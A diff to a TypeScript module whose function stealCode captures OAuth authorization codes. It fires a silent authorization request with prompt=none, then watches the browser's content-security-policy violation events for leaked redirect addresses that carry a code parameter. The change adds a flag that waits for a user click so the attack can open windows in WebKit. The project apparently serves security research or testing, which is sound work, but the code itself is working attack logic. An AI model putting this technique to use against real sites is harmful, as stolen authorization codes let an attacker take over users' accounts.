@@ -24,6 +24,8 @@ export interface OwnFlow {
   readonly way: WayToACode;
   /** The authorization request, with `prompt=none`. */
   readonly url: string;
+  /** Whether it opens windows, for which it waits until the user clicks: WebKit opens none without. */
+  readonly opensWindows: boolean;
   /** How long it looks for the answer, in milliseconds. */
   readonly patienceMs: number;
 }
@@ -33,7 +35,7 @@ export interface OwnFlow {
  *
  * @returns all addresses that were seen
  */
-export async function stealCode({ way, url, patienceMs }: OwnFlow): Promise<readonly string[]> {
+export async function stealCode({ way, url, opensWindows, patienceMs }: OwnFlow): Promise<readonly string[]> {
   const seen = new Set<string>();
   const server = new URL(url).origin;
   document.addEventListener('securitypolicyviolation', ({ blockedURI, documentURI, sourceFile }) => {
@@ -132,6 +134,10 @@ export async function stealCode({ way, url, patienceMs }: OwnFlow): Promise<read
       }
     },
   };
+  if (opensWindows) {
+    await new Promise<void>((resolve) => document.addEventListener('click', () => resolve(), { once: true }));
+    document.documentElement.dataset['clicked'] = 'yes';
+  }
   await ways[way]();
   const endsAtMs = Date.now() + patienceMs;
   while (Date.now() < endsAtMs && ![...seen].some((address) => /[?&#]code=/.test(address))) {
